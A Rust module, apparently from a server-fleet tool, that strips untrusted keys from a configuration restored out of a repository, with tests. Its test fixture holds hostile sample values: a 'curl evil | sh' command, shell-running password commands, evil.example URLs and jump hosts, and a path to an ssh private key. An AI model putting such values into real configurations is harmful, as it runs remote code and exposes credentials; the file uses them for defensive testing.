//! What a configuration out of a repository may say: whoever could write the repository (a server that
//! was broken into, the very reason to recover) wrote it. Keys that run or read something on the
//! operator's machine, that say whom its ssh believes, or where programs for the servers come from, are
//! left out and told; they come from the operator.

use matou_i18n::tr;
use std::path::Path;

use toml_edit::{DocumentMut, Item, TableLike};

use matou_base::text::escape_line;
use matou_stack::AppFile;

/// Keys that are data about the fleet. All others are left out, those of later versions too.
const TAKEN_KEYS: &[&str] = &[
    "alerts",
    "backup.append_only",
    "backup.check_parts",
    "backup.cpu_limit",
    "backup.keep_daily",
    "backup.keep_monthly",
    "backup.keep_within_days",
    "backup.keep_weekly",
    "backup.keep_yearly",
    "backup.random_delay",
    "backup.schedule",
    "backup.upload_limit",
    "edge.email",
    "edge.network",
    "edge.resolver",
    "fleet",
    "logs",
    "nodes.address",
    "nodes.availability",
    "nodes.labels",
    "nodes.name",
    "nodes.role",
    "page.automatic",
    "provision.address_pools",
    "provision.apt_wait",
    "provision.autolock",
    "provision.docker",
    "provision.docker_major",
    "provision.heartbeat",
    "provision.off",
    "provision.open_ports",
    "provision.packages",
    "provision.ssh_from",
    "provision.suricata",
    "provision.swap",
    "provision.swappiness",
    "room.floor",
    "ssh.connect_timeout",
    "ssh.keep_alive",
    "ssh.port",
    "ssh.user",
    "storage.devices",
    "storage.driver",
    "storage.filesystem",
    "storage.gluster",
    "storage.node",
    "storage.path",
    "theme",
    "updates.limit",
    "updates.rehearse",
];

/// Keys that a recovery sets anew: that they are left out is not reported.
const REPLACED_KEYS: &[&str] = &[
    "backup.environment_file",
    "backup.password_command",
    "backup.password_file",
    "backup.repository",
    "nodes.advertise",
    "nodes.identity",
    "nodes.jump",
    "nodes.port",
    "nodes.user",
    "ssh.identity",
    "ssh.known_hosts_file",
];

/// Keys that are taken, and reported because they leave something open.
const REPORTED_KEYS: &[&str] = &[
    "provision.off",
    "provision.open_ports",
    "provision.ssh_from",
];

/// Longest value that is shown, characters.
const MAX_SHOWN_CHARS: usize = 100;

/// Removes all keys from the document but [`TAKEN_KEYS`]. Returns a line for each that is left out.
pub(super) fn strip_untrusted_keys(doc: &mut DocumentMut) -> Vec<String> {
    let mut left_out = Vec::new();
    strip_untrusted_table(doc.as_table_mut(), "", &mut left_out);
    left_out
}

/// Returns what of a configuration's text is taken, and a line for each key that is left out;
/// `None` when the text is no TOML.
pub fn filter_untrusted_config(text: &str) -> Option<(String, Vec<String>)> {
    let mut doc: DocumentMut = text.parse().ok()?;
    let left_out = strip_untrusted_keys(&mut doc);
    Some((doc.to_string(), left_out))
}

/// Lists the keys that were taken and leave something on the servers open, a line each.
pub(super) fn list_open_settings(doc: &DocumentMut) -> Vec<String> {
    let found = REPORTED_KEYS.iter().filter_map(|path| {
        let (table, key) = path.split_once('.')?;
        Some(describe_config_item(path, doc.get(table)?.get(key)?))
    });
    found.flatten().collect()
}

/// Puts the operator's own settings over the document, key by key.
///
/// # Errors
/// The settings are no TOML.
pub(super) fn overlay_settings(
    doc: &mut DocumentMut,
    settings: &str,
) -> Result<(), toml_edit::TomlError> {
    let settings: DocumentMut = settings.parse()?;
    merge_tables(doc.as_table_mut(), settings.as_table());
    Ok(())
}

fn merge_tables(over: &mut dyn TableLike, from: &dyn TableLike) {
    for (key, item) in from.iter() {
        match (over.get_mut(key), item.as_table_like()) {
            (Some(old), Some(inner)) if old.is_table_like() => {
                if let Some(old) = old.as_table_like_mut() {
                    merge_tables(old, inner);
                }
            }
            _ => {
                over.insert(key, item.clone());
            }
        }
    }
}

fn strip_untrusted_table(table: &mut dyn TableLike, above: &str, left_out: &mut Vec<String>) {
    let keys: Vec<String> = table.iter().map(|(key, _)| key.to_owned()).collect();
    for key in keys {
        let path = match above {
            "" => key.clone(),
            above => format!("{above}.{key}"),
        };
        if TAKEN_KEYS.contains(&path.as_str()) {
            continue;
        }
        let below = format!("{path}.");
        let has_parts = TAKEN_KEYS.iter().any(|t| t.starts_with(&below));
        match table.get_mut(&key) {
            Some(Item::ArrayOfTables(all)) if has_parts => {
                for one in all.iter_mut() {
                    strip_untrusted_table(one, &path, left_out);
                }
            }
            Some(item) if has_parts && item.is_table_like() => {
                if let Some(inner) = item.as_table_like_mut() {
                    strip_untrusted_table(inner, &path, left_out);
                }
            }
            _ => {
                let gone = table.remove(&key);
                if !REPLACED_KEYS.contains(&path.as_str()) {
                    left_out.extend(
                        gone.iter()
                            .flat_map(|item| describe_config_item(&path, item)),
                    );
                }
            }
        }
    }
}

/// Returns a line `key = value` for each value below an item. Of `[[tables]]` only the names: their
/// values may hold a password.
fn describe_config_item(path: &str, item: &Item) -> Vec<String> {
    if let Some(all) = item.as_array_of_tables() {
        let name = |t: &toml_edit::Table| {
            let name = t.get("name").or_else(|| t.get("description"));
            name.and_then(Item::as_str).map(str::to_owned)
        };
        let names = all.iter().map(|t| name(t).unwrap_or_default());
        return names
            .map(|n| escape_line(&format!("[[{path}]] {n}")).into_owned())
            .collect();
    }
    if let Some(table) = item.as_table_like() {
        let below = table.iter();
        return below
            .flat_map(|(key, item)| describe_config_item(&format!("{path}.{key}"), item))
            .collect();
    }
    let value = item.to_string();
    let value: String = value.trim().chars().take(MAX_SHOWN_CHARS).collect();
    vec![escape_line(&format!("{path} = {value}")).into_owned()]
}

/// Returns why an application's file out of a repository is refused; `None` when it is taken.
pub(super) fn explain_refused_app_file(text: &str) -> Option<String> {
    let file: AppFile = match toml::from_str(text) {
        Ok(file) => file,
        Err(e) => return Some(tr!("it can't be read: {}", escape_line(e.message()))),
    };
    let is_name = Path::new(&file.stack).components().count() == 1
        && !file.stack.contains(['/', '\\'])
        && !file.stack.starts_with('.')
        && !file.stack.ends_with(".yml")
        && !file.stack.ends_with(".yaml");
    (!is_name).then(|| tr!("its stack is the file {}", escape_line(&file.stack)))
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: &str = r#"
new_key = "x"

[fleet]
name = "sec"

[ssh]
user = "root"
config_file = "stacks/ssh.conf"
known_hosts = "accept-new"
jump = "evil.example"
identity = "id"

[[nodes]]
name = "n1"
address = "192.0.2.1"
role = "manager"
jump = "evil.example"
docker_socket = "/home/op/agent.sock"
labels = { disk = "ssd" }

[storage]
driver = "netshare"
netshare_url = "https://evil.example/x"

[provision]
off = ["firewall"]
restic_url = "https://evil.example/restic"

[backup]
repository = "x"
password_command = ["sh", "-c", "id"]
schedule = "04:00"
ping_file = "/home/op/.ssh/id_ed25519"

[[backup.copies]]
name = "away"
repository = "rest:https://u:hunter2@evil/"
password_command = ["sh", "-c", "id"]

[scaleway]
token_file = "/home/op/token"

[dns]
provider = "gandi"
zones = ["example.org"]
token_file = "/home/op/gandi"
endpoint = "https://evil.example"

[receivers]
email = "me@example.org"
webhook_file = "/home/op/hook"

[keys]
remove = "j"

[[commands]]
key = "ctrl-g"
description = "look"
command = ["sh", "-c", "curl evil | sh"]
"#;

    #[test]
    fn what_runs_or_reads_something_here_is_left_out_and_told() {
        let mut doc: DocumentMut = HOSTILE.parse().unwrap();
        let told = strip_untrusted_keys(&mut doc).join("\n");
        let kept = doc.to_string();
        for evil in [
            "evil",
            "/home/op",
            "\"sh\"",
            "accept-new",
            "token",
            "[keys]",
            "commands",
            "new_key",
        ] {
            assert!(!kept.contains(evil), "{evil} in\n{kept}");
        }
        assert_eq!(list_open_settings(&doc), ["provision.off = [\"firewall\"]"]);
        for good in [
            "name = \"sec\"",
            "user = \"root\"",
            "labels = { disk = \"ssd\" }",
            "driver = \"netshare\"",
            "schedule = \"04:00\"",
        ] {
            assert!(kept.contains(good), "{good} in\n{kept}");
        }
        for said in [
            "new_key = \"x\"",
            "ssh.config_file = \"stacks/ssh.conf\"",
            "ssh.known_hosts = \"accept-new\"",
            "nodes.docker_socket",
            "storage.netshare_url",
            "backup.ping_file",
            "[[backup.copies]] away",
            "scaleway.token_file",
            "dns.endpoint",
            "keys.remove",
            "[[commands]] look",
        ] {
            assert!(told.contains(said), "{said} in\n{told}");
        }
        assert!(!told.contains("hunter2"), "{told}");
        // What is left is a whole configuration but for what a recovery gives.
        matou_config::Config::parse(&kept, Path::new("/f/config.toml")).unwrap();
    }

    #[test]
    fn the_operators_settings_go_over_it_key_by_key() {
        let mut doc: DocumentMut = HOSTILE.parse().unwrap();
        strip_untrusted_keys(&mut doc);
        let mine = "[ssh]\nconfig_file = \"/home/op/.ssh/config\"\n[edge]\nca_file = \"ca.pem\"\n\
                    [backup]\nrepository = \"/y\"\npassword_file = \"p\"\n[[backup.copies]]\nname = \"away\"\nrepository = \"/x\"\npassword_file = \"p\"\n";
        overlay_settings(&mut doc, mine).unwrap();
        let text = doc.to_string();
        for line in [
            "config_file = \"/home/op/.ssh/config\"",
            "user = \"root\"",
            "ca_file = \"ca.pem\"",
            "schedule = \"04:00\"",
            "name = \"away\"",
        ] {
            assert!(text.contains(line), "{line} in\n{text}");
        }
        matou_config::Config::parse(&text, Path::new("/f/config.toml")).unwrap();
        assert!(overlay_settings(&mut doc, "[ssh").is_err());
    }

    /// Every key that can be written is one that was thought of.
    #[test]
    fn every_key_of_the_example_is_taken_or_left_out_on_purpose() {
        let example = include_str!("../../../config.example.toml");
        let uncommented: String = example
            .lines()
            .map(|l| {
                l.strip_prefix("# ")
                    .filter(|l| l.contains(" = ") || l.starts_with('['))
            })
            .zip(example.lines())
            .map(|(un, line)| un.unwrap_or(line).to_owned() + "\n")
            .collect();
        let doc: Result<DocumentMut, _> = uncommented.parse();
        let mut doc = doc.unwrap_or_else(|_| example.parse().unwrap());
        let told = strip_untrusted_keys(&mut doc);
        let on_purpose = [
            "backup.copies",
            "backup.ping_file",
            // They run on the operator's machine.
            "commands",
            // Who has the names of the applications, and what they lead to.
            "dns",
            "edge.ca_file",
            "keys",
            "nodes.docker_socket",
            // Who is let past a page.
            "page.allow",
            "provision.docker_key",
            "provision.docker_repository",
            // Programs of this machine, that managers would be given.
            "provision.programs",
            "provision.restic_sha256",
            "provision.restic_url",
            // Whoever reads the applications' mail sets their passwords anew.
            "mail",
            "receivers",
            "scaleway",
            "ssh.config_file",
            "ssh.jump",
            "ssh.known_hosts",
            "storage.netshare_sha256",
            "storage.netshare_url",
        ];
        for line in told {
            let known = on_purpose
                .iter()
                .any(|k| line.trim_start_matches('[').starts_with(k));
            assert!(known, "{line}: taken from a repository, or not?");
        }
    }

    #[test]
    fn an_application_names_a_stack_and_no_file() {
        assert_eq!(explain_refused_app_file("stack = \"ghost\"\n"), None);
        for path in [
            "/home/op/.ssh/id_ed25519",
            "../x",
            "a/b",
            "own.yml",
            ".hidden",
            "",
        ] {
            let text = format!("stack = {path:?}\n");
            assert!(explain_refused_app_file(&text).is_some(), "{path}");
        }
        assert!(explain_refused_app_file("stack = 1").is_some());
    }
}
